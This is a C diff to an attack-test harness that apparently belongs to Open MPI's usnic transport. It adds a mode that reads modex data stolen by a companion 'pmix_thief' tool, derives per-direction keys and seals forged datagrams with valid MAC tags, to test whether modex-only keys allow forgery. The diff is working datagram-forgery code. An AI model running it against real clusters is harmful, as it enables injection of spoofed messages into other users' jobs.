@@ -30,6 +30,16 @@
  *               receiver's port, flagged as new and as a premature timeout
  *   feed        writes every genuine counter message to stdout, for a
  *               frag-ahead-own attacker without privileges
+ *   frag-ahead-keyed  as frag-ahead, each forgery sealed (nonce and tag, as
+ *               the BTL seals a datagram) with the key its direction
+ *               would have if keys came from the modex alone: the
+ *               BLAKE2b derivation of protocol 5 (opal_btl_usnic_derive_key)
+ *               of the receiver's modex key field and the sender's
+ *               node_id, under the algorithm both ends' mac_algs pick.
+ *               The modex is read from the file ATTACK_MODEX, as
+ *               pmix_thief prints it (run-pmix-attacks.sh).  Against keys
+ *               that need more than the modex the tags are wrong and the
+ *               forgeries are counted as drop_bad_mac.
  * Modes any user can run (from the attacker's own UDP socket):
  *   frag-ahead-own  reads what feed writes and answers as frag-ahead
  *   spray       blind: FRAGs, ACKs, CHUNKs and PUTs claiming every rank,
@@ -48,6 +58,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include "../../btl_usnic_auth.h"
 #include "../../btl_usnic_proto.h"
 #include "../faults/rawudp.h"
 
@@ -87,6 +98,14 @@ typedef struct {
     unsigned next_tag;
     long seen, sent;
     uint64_t job;     /* spray: the victim's job id << 32 (ATTACK_JOBID), as a local user computes it */
+    /* frag-ahead-keyed: what the thief read of each rank's modex (by rank) */
+    struct {
+        bool have;
+        unsigned protection, mac_algs;
+        uint8_t node_id[OPAL_BTL_USNIC_ID_BYTES];
+        uint8_t recv_key[OPAL_BTL_USNIC_KEY_BYTES];
+    } modex[RAWUDP_MAX_PORTS / 2];
+    long unkeyed;     /* frag-ahead-keyed: forgeries not sent for want of a rank's modex */
 } attacker_t;
 
 /* Rank and channel of a job port */
@@ -152,10 +171,75 @@ static size_t forge_next_counter(const uint8_t *g, uint8_t *out, int tag)
     return len;
 }
 
+/* frag-ahead-keyed: seals |f| (|len| bytes) as its claimed sender would
+ * if the key of the direction came from the modex alone; false if the
+ * thief did not read both ends */
+static bool seal_from_modex(attacker_t *a, uint8_t *f, size_t len, uint16_t sport, uint16_t dport)
+{
+    int from = port_rank(a, sport), to = port_rank(a, dport);
+    if (from < 0 || to < 0 || !a->modex[from].have || !a->modex[to].have) {
+        ++a->unkeyed;
+        return false;
+    }
+    uint8_t key[OPAL_BTL_USNIC_KEY_BYTES];
+    opal_btl_usnic_derive_key(a->modex[to].recv_key, a->modex[from].node_id, key);
+    opal_btl_usnic_mac_t m;
+    opal_btl_usnic_mac_init(&m, opal_btl_usnic_mac_pick(a->modex[from].mac_algs, a->modex[to].mac_algs), key);
+    opal_btl_usnic_hdr_t *h = (opal_btl_usnic_hdr_t *) f;
+    memset(h->mac, 0, sizeof(h->mac));
+    size_t covered = (OPAL_BTL_USNIC_PROTECT_FULL == a->modex[to].protection) ? len : opal_btl_usnic_hdr_len(h->type);
+    uint8_t tag[OPAL_BTL_USNIC_MAC_BYTES];
+    opal_btl_usnic_mac_tag(&m, le64toh(h->nonce), f, covered, tag);
+    memcpy(h->mac, tag, sizeof(tag));
+    opal_btl_usnic_mac_clear(&m);
+    sodium_memzero(key, sizeof(key));
+    return true;
+}
+
+/* frag-ahead-keyed: reads pmix_thief's "entry rank=R ... ports=P0/P1 ...
+ * mac_algs=N node_id=HEX recv_key=HEX" lines from |path|; the ranks must
+ * be the job's (their ports among PORTs).  Returns how many it read. */
+static int read_modex(attacker_t *a, const char *path)
+{
+    FILE *f = (NULL != path) ? fopen(path, "r") : NULL;
+    char line[1024];
+    int n = 0;
+    if (NULL == f) {
+        fprintf(stderr, "dgram_attack: cannot read ATTACK_MODEX (%s)\n", NULL != path ? path : "unset");
+        return 0;
+    }
+    while (NULL != fgets(line, sizeof(line), f)) {
+        int rank;
+        unsigned p0, p1, prot, algs;
+        char id[2 * OPAL_BTL_USNIC_ID_BYTES + 1], rk[2 * OPAL_BTL_USNIC_KEY_BYTES + 1];
+        if (7 != sscanf(line, "entry rank=%d module=0 ipv4=%*s ports=%u/%u protection=%u mac_algs=%u node_id=%32s "
+                              "recv_key=%64s", &rank, &p0, &p1, &prot, &algs, id, rk) ||
+            rank < 0 || 2 * rank + 1 >= a->ports.n || a->ports.port[2 * rank] != p0 ||
+            a->ports.port[2 * rank + 1] != p1) {
+            continue;
+        }
+        if (0 != sodium_hex2bin(a->modex[rank].node_id, sizeof(a->modex[rank].node_id), id, strlen(id), NULL, NULL,
+                                NULL) ||
+            0 != sodium_hex2bin(a->modex[rank].recv_key, sizeof(a->modex[rank].recv_key), rk, strlen(rk), NULL, NULL,
+                                NULL)) {
+            continue;
+        }
+        a->modex[rank].protection = prot;
+        a->modex[rank].mac_algs = algs;
+        a->modex[rank].have = true;
+        ++n;
+    }
+    fclose(f);
+    return n;
+}
+
 static void answer_counter(attacker_t *a, const uint8_t *g, uint16_t sport, uint16_t dport, int tag, bool own)
 {
     uint8_t f[sizeof(opal_btl_usnic_hdr_t) + COUNTER_PAYLOAD];
     size_t len = forge_next_counter(g, f, tag);
+    if (0 == strcmp(a->mode, "frag-ahead-keyed") && !seal_from_modex(a, f, len, sport, dport)) {
+        return;
+    }
     if (own) {
         send_own(a, dport, f, len);
     } else {
@@ -265,7 +349,7 @@ static void on_genuine(attacker_t *a, const uint8_t *g, size_t len, uint16_t spo
         return;
     }
     bool data = OPAL_BTL_USNIC_PKT_ACK != h->type;
-    if (0 == strcmp(a->mode, "frag-ahead") && counter) {
+    if ((0 == strcmp(a->mode, "frag-ahead") || 0 == strcmp(a->mode, "frag-ahead-keyed")) && counter) {
         ++a->seen;
         answer_counter(a, g, sport, dport, -1, false);
     } else if (0 == strcmp(a->mode, "tags") && counter) {
@@ -404,8 +488,15 @@ int main(int argc, char **argv)
         rc = spray(&a, seconds);
     } else if (0 == strcmp(a.mode, "frag-ahead-own")) {
         rc = frag_ahead_own(&a, seconds);
+    } else if (0 == strcmp(a.mode, "frag-ahead-keyed")) {
+        int n = (opal_btl_usnic_auth_init() != 0) ? read_modex(&a, getenv("ATTACK_MODEX")) : 0;
+        fprintf(stderr, "dgram_attack: %s: modex of %d of %d ranks\n", a.mode, n, a.ports.n / 2);
+        rc = (n > 0) ? sniff(&a, seconds) : 1;
     } else {
         rc = sniff(&a, seconds);
+    }
+    if (a.unkeyed > 0) {
+        fprintf(stderr, "dgram_attack: %s: %ld forgeries not sent: no modex of their ranks\n", a.mode, a.unkeyed);
     }
     fprintf(stderr, "dgram_attack: %s: saw %ld genuine datagrams, sent %ld forgeries\n", a.mode, a.seen, a.sent);
     close(a.own);
